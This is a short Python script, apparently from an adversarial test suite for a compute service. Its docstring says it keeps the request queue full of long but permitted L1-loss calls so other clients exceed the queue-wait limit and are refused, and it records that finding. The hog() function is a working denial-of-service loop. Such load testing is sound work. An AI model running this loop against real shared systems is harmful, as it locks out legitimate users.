"""Long calls that are all within the limits, always as many as are accepted: whoever comes then waits longer than
--max-queue-wait, and is refused.

Cost: 100 bytes a call. Found: medium calls of everybody else are refused most of the time.
"""

import wire
from attack import Attack, Target, run

REQUESTS = [wire.execute(wire.l1_loss([elements], 1), [wire.floats(1.0)]) for elements in (1 << 27, 1 << 25, 1 << 24)]


def hog(target: Target) -> None:
    connections = [target.connect(i) for i in range(4)]
    calls: list = []
    while True:
        for connection in connections:
            connection.poll(0.005)
        for connection, call in calls:
            if call.ended:
                connection.forget(call)
        calls = [(connection, call) for connection, call in calls if not call.ended]
        while len(calls) < 200:
            connection = connections[len(calls) % len(connections)]
            calls.append((connection, connection.start("Execute", REQUESTS[len(calls) % 3])))


if __name__ == "__main__":
    run(Attack([hog]))
